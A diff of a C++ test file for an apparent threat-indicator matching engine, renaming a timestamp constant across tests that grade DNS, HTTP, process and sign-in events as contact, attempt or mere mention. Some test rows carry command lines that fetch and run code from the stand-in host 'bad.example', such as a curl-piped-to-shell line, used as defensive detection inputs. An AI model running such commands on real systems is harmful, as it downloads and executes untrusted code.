@@ -21,14 +21,14 @@ using model::FindingStatus;
 using model::Grade;
 using model::ValueType;
 
-constexpr std::string_view noon = "2030-05-10T12:00:00Z";
+constexpr std::string_view noon_text = "2030-05-10T12:00:00Z";
 
 model::Device ordinary() { return {"desk-7", "dev7", {"10.1.0.7"}, "kim", "macOS", "employee laptop", 60}; }
 model::Device analyst() { return {"lab-1", "dev1", {"10.1.9.1"}, "rue", "macOS", "security analyst workstation", 0}; }
 model::Device gateway() { return {"mx-1", "", {"10.1.0.25"}, "", "appliance", "mail gateway with URL scanner", 0}; }
 
 model::Event lookup(std::string_view ip, std::string_view answer, std::string_view rcode = "NOERROR") {
-  return event_of(EventClass::dns_activity, noon,
+  return event_of(EventClass::dns_activity, noon_text,
                   {{Attribute::src_ip, ip},
                    {Attribute::query_hostname, "bad.example"},
                    {Attribute::query_type, "A"},
@@ -82,7 +82,7 @@ TEST(Lookup, CountsWhenAConnectionToTheAnswerFollowed) {
 TEST(Lookup, OfAnotherDeviceIsNotMadeAContactBySomebodyElsesConnection) {
   Scene scene(ValueType::domain, "bad.example");
   scene.device(ordinary())
-      .watched("zeek_conn", model::Sight::connection, noon)
+      .watched("zeek_conn", model::Sight::connection, noon_text)
       .sighting(lookup("10.1.0.7", "203.0.113.9"), {Attribute::query_hostname})
       .around(ValueType::ipv4, "203.0.113.9", connection("10.1.0.8", "203.0.113.9", "SF"));
   expect_explained(scene.finding(), "resolved-not-connected");
@@ -115,7 +115,7 @@ TEST(Lookup, IsNotExplainedByASourceThatDoesNotKnowTheDevice) {
   const auto judged = [](std::string_view watched) {
     Scene scene(ValueType::domain, "bad.example");
     scene.device(ordinary())
-        .watched("zeek_conn", model::Sight::connection, noon, watched)
+        .watched("zeek_conn", model::Sight::connection, noon_text, watched)
         .sighting(lookup("10.1.0.7", "203.0.113.9"), {Attribute::query_hostname});
     return scene.finding();
   };
@@ -129,7 +129,7 @@ TEST(Lookup, ByAResolverIsFollowedByAnybodysConnection) {
   const auto judged = [&](std::string_view connected_to) {
     Scene scene(ValueType::domain, "bad.example");
     scene.device(resolver)
-        .watched("zeek_conn", model::Sight::connection, noon, "10.1.0.8")
+        .watched("zeek_conn", model::Sight::connection, noon_text, "10.1.0.8")
         .sighting(lookup("10.1.0.53", "203.0.113.9"), {Attribute::query_hostname})
         .around(ValueType::ipv4, "203.0.113.9", connection("10.1.0.8", connected_to, "SF"));
     return scene.finding();
@@ -154,7 +154,7 @@ TEST(Lookup, ALogOfQuestionsAloneSaysNothingOfTheAnswer) {
     event.activity = activity;
     return event;
   };
-  const model::Event question = record(model::activity::dns_query, noon, "", "");
+  const model::Event question = record(model::activity::dns_query, noon_text, "", "");
   Scene alone(ValueType::domain, "bad.example");
   alone.device(ordinary()).sighting(question, {Attribute::query_hostname});
   expect_counts(alone.finding(), Grade::attempted);
@@ -176,7 +176,7 @@ TEST(Lookup, ALogOfQuestionsAloneSaysNothingOfTheAnswer) {
   Scene answered(ValueType::domain, "bad.example");
   answered.device(ordinary())
       .sighting(question, {Attribute::query_hostname})
-      .sighting(record(model::activity::dns_response, noon, "203.0.113.9", "NOERROR"), {Attribute::query_hostname})
+      .sighting(record(model::activity::dns_response, noon_text, "203.0.113.9", "NOERROR"), {Attribute::query_hostname})
       .around(ValueType::ipv4, "203.0.113.9", connection("10.1.0.7", "203.0.113.9", "SF"));
   for (const auto& finding : answered.findings()) expect_counts(finding, Grade::contacted);
 }
@@ -184,7 +184,7 @@ TEST(Lookup, ALogOfQuestionsAloneSaysNothingOfTheAnswer) {
 TEST(Request, OfWhichNothingTellsTheOutcomeIsNoRefusal) {
   const auto request = [](model::Status status, std::string_view code) {
     model::Event event = event_of(
-        EventClass::http_activity, noon,
+        EventClass::http_activity, noon_text,
         {{Attribute::src_ip, "10.1.0.7"}, {Attribute::http_host, "bad.example"}, {Attribute::http_status, code}});
     event.status = status;
     return event;
@@ -201,12 +201,13 @@ TEST(Request, OfWhichNothingTellsTheOutcomeIsNoRefusal) {
   expect_explained(judged(request(model::Status::failure, "000")), "refused");
   Scene from(ValueType::ipv4, "203.0.113.9");
   from.device(ordinary())
-      .sighting(event_of(EventClass::http_activity, noon, {{Attribute::src_ip, "203.0.113.9"}}), {Attribute::src_ip});
+      .sighting(event_of(EventClass::http_activity, noon_text, {{Attribute::src_ip, "203.0.113.9"}}),
+                {Attribute::src_ip});
   expect_counts(from.finding(), Grade::attempted);
 }
 
 TEST(HostOfAUrl, SeenAloneIsNoContactWithThePage) {
-  const auto tunnel = event_of(EventClass::http_activity, noon,
+  const auto tunnel = event_of(EventClass::http_activity, noon_text,
                                {{Attribute::src_ip, "10.1.0.7"},
                                 {Attribute::dst_hostname, "bad.example"},
                                 {Attribute::http_method, "CONNECT"},
@@ -227,7 +228,7 @@ TEST(Lookup, AnsweredWithNowhereIsSinkholed) {
 }
 
 TEST(Connection, ToTheBlockPageOfTheOwnResolverIsNoContactButThroughAProxyItIs) {
-  const auto handshake = event_of(EventClass::network_activity, noon,
+  const auto handshake = event_of(EventClass::network_activity, noon_text,
                                   {{Attribute::src_ip, "10.1.0.7"},
                                    {Attribute::dst_ip, "10.1.0.250"},
                                    {Attribute::dst_port, "443"},
@@ -247,13 +248,13 @@ TEST(File, RunByAnInterpreterWithAVersionInItsName) {
   Scene scene(ValueType::md5, "00112233445566778899aabbccddeeff");
   scene.file("osquery")
       .device(ordinary())
-      .sighting(event_of(EventClass::file_activity, noon,
+      .sighting(event_of(EventClass::file_activity, noon_text,
                          {{Attribute::device_hostname, "desk-7"},
                           {Attribute::file_path, "/tmp/setup.py"},
                           {Attribute::file_md5, "00112233445566778899aabbccddeeff"}}),
                 {Attribute::file_md5})
       .around(ValueType::file_name, "setup.py",
-              event_of(EventClass::process_activity, noon,
+              event_of(EventClass::process_activity, noon_text,
                        {{Attribute::device_hostname, "desk-7"},
                         {Attribute::process_path, "/usr/bin/python3.11"},
                         {Attribute::process_cmd_line, "python3.11 setup.py"}}));
@@ -263,7 +264,7 @@ TEST(File, RunByAnInterpreterWithAVersionInItsName) {
 TEST(Lookup, ReversedIsNoContact) {
   Scene scene(ValueType::domain, "bad.example");
   scene.device(ordinary())
-      .sighting(event_of(EventClass::dns_activity, noon,
+      .sighting(event_of(EventClass::dns_activity, noon_text,
                          {{Attribute::src_ip, "10.1.0.7"},
                           {Attribute::query_hostname, "9.113.0.203.in-addr.arpa"},
                           {Attribute::query_type, "PTR"},
@@ -301,7 +302,7 @@ TEST(Connection, LetThroughCountsUnlessItsEndTellsThatNobodyAnswered) {
   const auto judged = [&](std::initializer_list<model::Event> around) {
     Scene scene(ValueType::ipv4, "203.0.113.9");
     scene.device(ordinary())
-        .sighting(record(model::activity::network_open, noon, "7", "203.0.113.9"), {Attribute::dst_ip});
+        .sighting(record(model::activity::network_open, noon_text, "7", "203.0.113.9"), {Attribute::dst_ip});
     for (const model::Event& event : around) scene.around(ValueType::account, "7", event);
     return scene.finding();
   };
@@ -329,7 +330,7 @@ TEST(Connection, ARequestThatTheServerTurnedAwayIsAnAttempt) {
                          Row{"403", Grade::attempted}, Row{"500", Grade::contacted}}) {
     Scene scene(ValueType::ipv4, "203.0.113.9");
     scene.file("web_access")
-        .sighting(event_of(EventClass::http_activity, noon,
+        .sighting(event_of(EventClass::http_activity, noon_text,
                            {{Attribute::device_hostname, "web-1"},
                             {Attribute::src_ip, "203.0.113.9"},
                             {Attribute::http_method, "POST"},
@@ -350,7 +351,7 @@ TEST(Connection, AGatewayIsTheDeviceOfWhatItsOwnServerWasAsked) {
     gateway.role = "VPN gateway";
     scene.device(std::move(gateway)).file("web_access");
     scene.scan.files[0].device = file_device;
-    scene.sighting(event_of(EventClass::http_activity, noon,
+    scene.sighting(event_of(EventClass::http_activity, noon_text,
                             {{Attribute::device_hostname, "gw-1"},
                              {Attribute::src_ip, "203.0.113.9"},
                              {Attribute::http_status, "200"}}),
@@ -365,7 +366,7 @@ TEST(Connection, ByACommandThatNamesAListedHostIsNoOtherRequest) {
   const auto judged = [](std::string_view program) {
     Scene scene(ValueType::domain, "bad.example");
     scene.device(ordinary())
-        .sighting(event_of(EventClass::network_activity, noon,
+        .sighting(event_of(EventClass::network_activity, noon_text,
                            {{Attribute::src_ip, "10.1.0.7"},
                             {Attribute::dst_ip, "198.51.100.9"},
                             {Attribute::actor_process_path, program},
@@ -407,7 +408,7 @@ TEST(Validity, OutsideThePublishedTimeIsExplainedAndInsideCounts) {
     scene.indicators[0].valid = {at(c.from), at(c.to)};
     scene.file("zeek_conn")
         .device(ordinary())
-        .sighting(connection("10.1.0.7", "203.0.113.9", "SF", noon), {Attribute::dst_ip});
+        .sighting(connection("10.1.0.7", "203.0.113.9", "SF", noon_text), {Attribute::dst_ip});
     const auto finding = scene.finding();
     EXPECT_EQ(finding.status == FindingStatus::counts, c.counts) << c.name;
     EXPECT_EQ(finding.rule, c.counts ? "" : "outside-validity") << c.name;
@@ -429,7 +430,7 @@ TEST(Validity, YearsBeforePublicationItWasSomebodyElses) {
 
 TEST(Research, OfAnAnalystIsExplainedButContactIsNot) {
   const auto command = [](std::string_view line) {
-    return event_of(EventClass::process_activity, noon,
+    return event_of(EventClass::process_activity, noon_text,
                     {{Attribute::device_hostname, "lab-1"},
                      {Attribute::process_path, "/usr/local/bin/notebook"},
                      {Attribute::process_cmd_line, line}});
@@ -456,7 +457,7 @@ TEST(Research, AScriptOfAnAnalystIsHandedTheValueAndDoesNotRunIt) {
                          {"/usr/bin/curl", "curl -O https://bad.example/x", false},
                          {"/bin/bash", "/bin/bash -c \"curl bad.example | sh\"", false}}) {
     Scene scene(ValueType::domain, "bad.example");
-    scene.file("osquery").device(analyst()).sighting(event_of(EventClass::process_activity, noon,
+    scene.file("osquery").device(analyst()).sighting(event_of(EventClass::process_activity, noon_text,
                                                               {{Attribute::device_hostname, "lab-1"},
                                                                {Attribute::process_path, row.program},
                                                                {Attribute::process_cmd_line, row.line}}),
@@ -466,7 +467,7 @@ TEST(Research, AScriptOfAnAnalystIsHandedTheValueAndDoesNotRunIt) {
   Scene elsewhere(ValueType::domain, "bad.example");
   elsewhere.file("osquery")
       .device(ordinary())
-      .sighting(event_of(EventClass::process_activity, noon,
+      .sighting(event_of(EventClass::process_activity, noon_text,
                          {{Attribute::device_hostname, "desk-7"},
                           {Attribute::process_path, "/usr/bin/python3"},
                           {Attribute::process_cmd_line, "python3 sync.py --to bad.example"}}),
@@ -490,7 +491,7 @@ TEST(SearchCommand, LookingAtAListedFileIsNotRunningIt) {
     Scene scene(ValueType::file_path, "/opt/x/run");
     scene.file("osquery")
         .device(ordinary())
-        .sighting(event_of(EventClass::process_activity, noon,
+        .sighting(event_of(EventClass::process_activity, noon_text,
                            {{Attribute::device_hostname, "desk-7"},
                             {Attribute::process_path, row.program},
                             {Attribute::process_cmd_line, row.line}}),
@@ -514,7 +515,7 @@ TEST(SearchCommand, OfATypedLineTheCommandThatNamesTheValueTells) {
         Row{"npm install bad.example", Grade::executed}}) {
     Scene scene(ValueType::domain, "bad.example");
     scene.file("shell_history")
-        .sighting(event_of(EventClass::process_activity, noon, {{Attribute::process_cmd_line, row.line}}),
+        .sighting(event_of(EventClass::process_activity, noon_text, {{Attribute::process_cmd_line, row.line}}),
                   {Attribute::process_cmd_line});
     EXPECT_EQ(scene.finding().grade, row.grade) << row.line;
   }
@@ -523,7 +524,7 @@ TEST(SearchCommand, OfATypedLineTheCommandThatNamesTheValueTells) {
 TEST(SearchCommand, IsExplainedOnAnyDeviceAndAFetchCounts) {
   const auto command = [](std::string_view path, std::string_view line) {
     return event_of(
-        EventClass::process_activity, noon,
+        EventClass::process_activity, noon_text,
         {{Attribute::device_hostname, "desk-7"}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
   };
   Scene search(ValueType::domain, "bad.example");
@@ -554,14 +555,14 @@ TEST(LinkScanner, IsExplainedUntilItComesBackTooOften) {
 
 TEST(File, ThatRanCountsAsExecutedAndOneThatOnlyLiesThereAsAttempted) {
   const auto file = [] {
-    return event_of(EventClass::file_activity, noon,
+    return event_of(EventClass::file_activity, noon_text,
                     {{Attribute::device_hostname, "desk-7"},
                      {Attribute::file_path, "/private/tmp/setup.rb"},
                      {Attribute::file_md5, "00112233445566778899aabbccddeeff"}});
   };
   const auto run = [](std::string_view host, std::string_view path, std::string_view line) {
     return event_of(
-        EventClass::process_activity, noon,
+        EventClass::process_activity, noon_text,
         {{Attribute::device_hostname, host}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
   };
   Scene ran(ValueType::md5, "00112233445566778899aabbccddeeff");
@@ -583,7 +584,7 @@ TEST(File, ThatStartedAnotherProgramHasRun) {
   Scene scene(ValueType::file_path, "/opt/x/helperd");
   scene.file("osquery")
       .device(ordinary())
-      .sighting(event_of(EventClass::process_activity, noon,
+      .sighting(event_of(EventClass::process_activity, noon_text,
                          {{Attribute::device_hostname, "desk-7"},
                           {Attribute::process_path, "/bin/sh"},
                           {Attribute::parent_process_path, "/opt/x/helperd"}}),
@@ -600,7 +601,7 @@ TEST(Launch, KnownByItsCommandLineAloneIsJudgedByTheFirstWord) {
                          Row{R"("C:\Program Files\Git\curl.exe" https://bad.example/a b)", Grade::executed},
                          Row{"say https://bad.example/curl", Grade::mentioned}}) {
     Scene scene(ValueType::domain, "bad.example");
-    auto event = event_of(EventClass::process_activity, noon,
+    auto event = event_of(EventClass::process_activity, noon_text,
                           {{Attribute::device_hostname, "desk-7"}, {Attribute::process_cmd_line, row.command}});
     scene.file("auditd").sighting(std::move(event), {Attribute::process_cmd_line});
     EXPECT_EQ(scene.finding().grade, row.grade) << row.command;
@@ -610,7 +611,7 @@ TEST(Launch, KnownByItsCommandLineAloneIsJudgedByTheFirstWord) {
 TEST(File, ThatIsALibraryRunsInTheProgramThatLoadsIt) {
   const auto opened = [](std::string_view path, std::string_view by) {
     Scene scene(ValueType::sha256, std::string(64, 'a'));
-    auto event = event_of(EventClass::file_activity, noon,
+    auto event = event_of(EventClass::file_activity, noon_text,
                           {{Attribute::device_hostname, "desk-7"},
                            {Attribute::file_path, path},
                            {Attribute::file_sha256, std::string(64, 'a')}});
@@ -627,7 +628,7 @@ TEST(File, ThatIsALibraryRunsInTheProgramThatLoadsIt) {
 TEST(Blocked, ByAControlIsExplained) {
   Scene scene(ValueType::domain, "bad.example");
   auto event = event_of(
-      EventClass::http_activity, noon,
+      EventClass::http_activity, noon_text,
       {{Attribute::src_ip, "10.1.0.7"}, {Attribute::http_host, "bad.example"}, {Attribute::http_status, "403"}});
   event.disposition = model::Disposition::blocked;
   scene.file("squid_access").device(ordinary()).sighting(std::move(event), {Attribute::http_host});
@@ -637,7 +638,7 @@ TEST(Blocked, ByAControlIsExplained) {
 TEST(Blocked, AProgramThatWasRefusedHasNotRun) {
   for (const auto disposition : {model::Disposition::blocked, model::Disposition::quarantined}) {
     Scene scene(ValueType::sha256, std::string(64, 'a'));
-    auto event = event_of(EventClass::process_activity, noon,
+    auto event = event_of(EventClass::process_activity, noon_text,
                           {{Attribute::device_hostname, "desk-7"},
                            {Attribute::process_path, "/opt/x/run"},
                            {Attribute::file_sha256, std::string(64, 'a')}});
@@ -652,7 +653,7 @@ TEST(Blocked, AProgramThatWasRefusedHasNotRun) {
 
 model::Event sign_in(std::string_view ip, std::string_view type, std::string_view mfa, std::string_view os,
                      bool success = true) {
-  auto event = event_of(EventClass::authentication, noon,
+  auto event = event_of(EventClass::authentication, noon_text,
                         {{Attribute::src_ip, ip},
                          {Attribute::actor_user_name, "kim"},
                          {Attribute::actor_user_type, type},
@@ -686,7 +687,7 @@ TEST(SharedExit, ExplainsAnOrdinarySignInOnly) {
 
 TEST(SharedExit, TakesASecondFactorFromARecordOfTheSameSession) {
   const auto in_session = [](std::string_view ip, std::string_view mfa, std::string_view session) {
-    auto event = event_of(EventClass::authentication, noon,
+    auto event = event_of(EventClass::authentication, noon_text,
                           {{Attribute::src_ip, ip},
                            {Attribute::actor_user_name, "kim"},
                            {Attribute::client_os, "macOS"},
@@ -757,7 +758,7 @@ TEST(SignIn, ThatFailedIsExplained) {
 
 TEST(Calls, ThatTheKeyHadNoRightToShowThatSomebodyHasTheKey) {
   const auto finding = [](std::string_view error, std::string_view key) {
-    auto event = event_of(EventClass::api_activity, noon,
+    auto event = event_of(EventClass::api_activity, noon_text,
                           {{Attribute::src_ip, "203.0.113.9"},
                            {Attribute::actor_user_name, "deploy"},
                            {Attribute::api_operation, "ListUsers"},
@@ -816,7 +817,7 @@ TEST(Package, OfAVersionThatWasNotPublishedIsNotMeant) {
 
 TEST(Package, NamedInABuildLogIsNotInstalled) {
   Scene scene(ValueType::package, "left-pod");
-  scene.file("text").sighting(event_of(EventClass::other, noon, {{Attribute::message, "Malware in left-pod"}}),
+  scene.file("text").sighting(event_of(EventClass::other, noon_text, {{Attribute::message, "Malware in left-pod"}}),
                               {Attribute::message});
   expect_explained(scene.finding(), "package-named-only");
 }
@@ -847,7 +848,7 @@ TEST(IndicatorList, AtRestIsExplainedAndALogIsNot) {
   expect_explained(row_of_device("bad.example"), "indicator-list-at-rest");
 
   Scene log(ValueType::domain, "bad.example");
-  log.file("text").sighting(line(noon), {Attribute::message});
+  log.file("text").sighting(line(noon_text), {Attribute::message});
   expect_counts(log.finding(), Grade::mentioned);
 }
 
@@ -878,7 +879,7 @@ TEST(IndicatorList, ALineOfABlockListHasTheValueAndNothingMore) {
     const auto of_line = finding(line.raw, "lists/block.txt", "");
     EXPECT_EQ(of_line.status == FindingStatus::explained, line.explained) << line.raw;
   }
-  expect_counts(finding("bad.example", "lists/block.txt", noon), Grade::mentioned);
+  expect_counts(finding("bad.example", "lists/block.txt", noon_text), Grade::mentioned);
   // What was found on a device may be listed without a word.
   expect_counts(finding("bad.example", "desk-7/visited.txt", ""), Grade::mentioned);
 }
@@ -886,13 +887,13 @@ TEST(IndicatorList, ALineOfABlockListHasTheValueAndNothingMore) {
 TEST(Mail, NamesAndDoesNotFollow) {
   Scene scene(ValueType::domain, "bad.example");
   scene.file("mail").sighting(
-      event_of(EventClass::email_activity, noon, {{Attribute::email_subject, "New certificates"}}), {});
+      event_of(EventClass::email_activity, noon_text, {{Attribute::email_subject, "New certificates"}}), {});
   expect_explained(scene.finding(), "mail");
 }
 
 TEST(Parameters, OfACallAreNotItsOrigin) {
   Scene scene(ValueType::ipv4, "203.0.113.9");
-  auto event = event_of(EventClass::api_activity, noon,
+  auto event = event_of(EventClass::api_activity, noon_text,
                         {{Attribute::src_ip, "198.51.100.1"},
                          {Attribute::api_operation, "CreateIPSet"},
                          {Attribute::resource_name, "203.0.113.9"}});
@@ -906,7 +907,7 @@ TEST(Program, ThatSpokeOrAskedHasRun) {
     Scene scene(ValueType::file_name, "tool.exe");
     scene.file("windows_sysmon")
         .device(ordinary())
-        .sighting(event_of(event_class, noon,
+        .sighting(event_of(event_class, noon_text,
                            {{Attribute::src_ip, "10.1.0.7"},
                             {Attribute::dst_ip, "198.51.100.1"},
                             {Attribute::actor_process_path, "C:\\tool.exe"}}),
@@ -919,7 +920,7 @@ TEST(NamedElsewhere, AWebRequestToAnotherHostIsNoContact) {
   Scene scene(ValueType::domain, "bad.example");
   scene.file("zeek_http")
       .device(ordinary())
-      .sighting(event_of(EventClass::http_activity, noon,
+      .sighting(event_of(EventClass::http_activity, noon_text,
                          {{Attribute::src_ip, "10.1.0.7"},
                           {Attribute::http_host, "lookup.example"},
                           {Attribute::http_path, "/domain/bad.example"},
@@ -933,7 +934,7 @@ TEST(Connect, WithoutATunnelIsNoContact) {
     Scene scene(ValueType::domain, "bad.example");
     scene.file("web_access")
         .device(ordinary())
-        .sighting(event_of(EventClass::http_activity, noon,
+        .sighting(event_of(EventClass::http_activity, noon_text,
                            {{Attribute::src_ip, "10.1.0.7"},
                             {Attribute::http_host, "bad.example"},
                             {Attribute::http_method, method},
@@ -951,7 +952,7 @@ TEST(NamedElsewhere, InThePathOfAUrlItIsNotTheHost) {
     Scene scene(type, value);
     scene.file("proxy")
         .device(ordinary())
-        .sighting(event_of(EventClass::http_activity, noon,
+        .sighting(event_of(EventClass::http_activity, noon_text,
                            {{Attribute::src_ip, "10.1.0.7"}, {Attribute::url, url}, {Attribute::http_status, "200"}}),
                   {Attribute::url});
     return scene.finding();
